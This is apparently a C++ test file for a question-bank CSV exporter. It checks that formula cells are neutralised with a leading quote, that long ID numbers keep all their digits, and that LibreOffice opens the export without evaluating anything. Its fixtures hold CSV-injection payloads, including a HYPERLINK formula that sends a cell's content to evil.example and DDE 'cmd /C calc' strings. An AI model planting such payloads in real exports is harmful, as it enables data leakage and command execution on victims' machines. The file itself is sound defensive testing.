// Every CSV this program writes is safe to open in Excel or LibreOffice (issue 14 item 12): no cell runs as a
// formula (OWASP "CSV Injection"), 18-digit ID numbers keep every digit, and the export reads back unchanged.
#include "content/formats/csv.hpp"
#include "content/formats/export.hpp"
#include "content/formats/import.hpp"
#include "tests/content/import_support.hpp"

#include <doctest/doctest.h>

#include <cstdlib>
#include <iostream>

using namespace sk;
using content::formats::csv_cell;
using content::formats::csv_record;
using content::formats::parse_csv;

namespace {

const std::vector<std::string> kHostile{
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看成绩\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "'=1+2",
    "''-x",
};

} // namespace

TEST_CASE("CSV cells that a spreadsheet would run as a formula are written as text with a leading single quote")
{
    CHECK(csv_cell("=HYPERLINK(\"http://x\")") == "\"'=HYPERLINK(\"\"http://x\"\")\"");
    CHECK(csv_cell("=cmd|' /C calc'!A0") == "\"'=cmd|' /C calc'!A0\"");
    CHECK(csv_cell("+1+1") == "\"'+1+1\"");
    CHECK(csv_cell("-2+3") == "\"'-2+3\"");
    CHECK(csv_cell("@SUM(A1)") == "\"'@SUM(A1)\"");
    CHECK(csv_cell("\tx") == "\"'\tx\"");
    CHECK(csv_cell("-") == "\"'-\"");
    // Plain numbers stay numbers; ordinary text stays as it was.
    CHECK(csv_cell("-0.12") == "-0.12");
    CHECK(csv_cell("+3") == "+3");
    CHECK(csv_cell("87.5") == "87.5");
    CHECK(csv_cell("张三") == "张三");
    CHECK(csv_cell("a=b") == "a=b");
    CHECK(csv_cell("'quoted'") == "'quoted'");
}

TEST_CASE("CSV cells of long numbers (18-digit ID numbers) are written as text so that every digit stays")
{
    CHECK(csv_cell("110105198503150318") == "\"\t110105198503150318\"");
    CHECK(csv_cell("202612060001") == "\"\t202612060001\"");
    CHECK(csv_cell("0123") == "\"\t0123\"");
    CHECK(csv_cell("11010519850315031X") == "11010519850315031X"); // text already
    CHECK(csv_cell("12345678901") == "12345678901");               // 11 digits: Excel shows them all
    CHECK(csv_cell("0") == "0");
}

TEST_CASE("CSV written with spreadsheet protection reads back exactly as it was")
{
    std::vector<std::string> cells = kHostile;
    for (const char* s : {"110105198503150318", "\t110105198503150318", "'110105198503150318", "-0.12", "0123",
                          "'", "''", "'abc", "=", "普通文字", ""})
        cells.emplace_back(s);
    const auto records = parse_csv(csv_record(cells));
    REQUIRE(records.size() == 1);
    CHECK(records[0].cells == cells);
}

TEST_CASE("content export to CSV neutralises formulas in questions and imports back unchanged")
{
    test::TempDir dir;
    auto db = test::open_content_db(dir / "kiosk.db");
    content::ContentStore store(db);
    content::Question q;
    q.type = content::QuestionType::Single;
    q.stem = "=HYPERLINK(\"http://evil.example\",\"点此\")";
    q.options = {"-5℃+湿度", "@全部", "+1", "=1+2"};
    q.answer = "A";
    q.explanation = "-2+3+cmd|' /C calc'!A0";
    q.category = "电工作业";
    q.item = "低压电工作业";
    q.chapter = "电工基础";
    q.difficulty = 2;
    const std::string text = content::formats::questions_csv({q});
    for (const auto& h : {q.stem, q.options[0], q.options[1], q.options[3], q.explanation}) {
        INFO(h);
        // No cell begins with the formula character: each is quoted and starts with '.
        CHECK(text.find("," + h) == std::string::npos);
        CHECK(text.find(",\"'" + h.substr(0, 1)) != std::string::npos);
    }
    const auto csv = dir / "export.csv";
    test::write_file(csv, text);
    auto report = content::formats::import_path(store, csv, {});
    INFO(test::joined(test::error_texts(report)));
    REQUIRE(report.ok());
    const auto back = store.questions({});
    REQUIRE(back.size() == 1);
    CHECK(back[0].stem == q.stem);
    CHECK(back[0].options == q.options);
    CHECK(back[0].explanation == q.explanation);
}

// The check with a real spreadsheet program: LibreOffice Calc converts the CSV (as it opens it for a user, formulas
// evaluated) to a flat OpenDocument file; every hostile cell must be a string, the ID number a string of all 18
// digits. Skipped when LibreOffice is not installed (apt-get install libreoffice-calc-nogui).
TEST_CASE("LibreOffice Calc opens an exported CSV with no formula and the ID number's 18 digits as text")
{
    if (std::system("command -v soffice >/dev/null 2>&1") != 0) {
        std::cout << "SKIPPED: soffice (LibreOffice) is not installed\n";
        return;
    }
    test::TempDir dir;
    std::string csv = "\xEF\xBB\xBF" + csv_record({"姓名", "身份证号", "成绩", "备注"});
    csv += csv_record({"张三", "110105198503150318", "-0.12", kHostile[0]});
    for (std::size_t i = 1; i < kHostile.size(); ++i) csv += csv_record({"李四", "32010619900722004X", "87.5", kHostile[i]});
    test::write_file(dir / "results.csv", csv);
    const std::string cmd = "cd '" + dir.path().string() + "' && timeout 180 soffice -env:UserInstallation=file://" +
                            dir.path().string() + "/profile --headless --infilter=CSV:44,34,76,1 --convert-to fods " +
                            "results.csv >convert.log 2>&1";
    REQUIRE_MESSAGE(std::system(cmd.c_str()) == 0, test::read_file(dir / "convert.log"));
    const std::string fods = test::read_file(dir / "results.fods");
    REQUIRE(fods.find("office:spreadsheet") != std::string::npos);
    CHECK(fods.find("table:formula") == std::string::npos);
    CHECK(fods.find("HYPERLINK") != std::string::npos);
    CHECK(fods.find("office:value-type=\"float\" office:value=\"1.1010519850315") == std::string::npos);
    CHECK(fods.find("<text:p><text:tab/>110105198503150318</text:p>") != std::string::npos);
    CHECK(fods.find("office:value-type=\"float\" office:value=\"-0.12\"") != std::string::npos);
}
